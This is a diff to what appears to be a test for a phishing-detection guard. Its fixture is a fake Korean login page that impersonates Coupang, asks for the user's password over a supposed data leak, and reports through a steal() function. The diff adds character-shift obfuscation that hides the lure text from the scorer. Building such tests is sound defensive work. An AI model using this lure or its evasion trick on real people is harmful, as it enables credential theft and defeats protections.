@@ -15,6 +15,11 @@ const settle = () => new Promise((r) => setTimeout(r, 1_000));
 // One sentence in the brand's voice: a claim below the page warning's bar (a title or a logo would reach it).
 const CLAIM = `<p>쿠팡 회원정보 유출 확인 전담 창구입니다. 본인 확인을 위해 비밀번호를 입력해 주세요.</p>`;
 
+// The kit keeps its claim out of its script's words (each character shifted by one, put back at run time): since
+// page34 the scorer reads the lines a script writes, and a claim readable there is caught at the kit's first,
+// spending focus — this test is about the kit that hides it.
+const shifted = (t: string) => Array.from(t, (c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('');
+
 const PAGE = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>회원 로그인</title>
 <script>
 window.steal = function (kind, data) {
@@ -41,7 +46,9 @@ window.addEventListener('load', function () {
     // the guard may have held the first focus while its scorer came: wait until the box has it back
     (function claim(n) {
       if (document.activeElement !== pw && n < 40) return setTimeout(function () { claim(n + 1); }, 100);
-      document.getElementById('later').innerHTML = ${js(CLAIM)};
+      var t = ${js(shifted(CLAIM))}, u = '';
+      for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
+      document.getElementById('later').innerHTML = u;
       setTimeout(function () { steal('ready', document.activeElement === pw ? 'focused' : 'not-focused'); }, 300);
     })(0);
   }, 1500);
@@ -74,7 +81,9 @@ pw.addEventListener('mousedown', function (e) {
   if (!e.isTrusted || claimed) return;
   claimed = true;
   pw.type = 'password';
-  document.getElementById('later').innerHTML = ${js(CLAIM)};
+  var t = ${js(shifted(CLAIM))}, u = '';
+  for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
+  document.getElementById('later').innerHTML = u;
 });
 steal('ready', 'yes');
 </script></body></html>`;
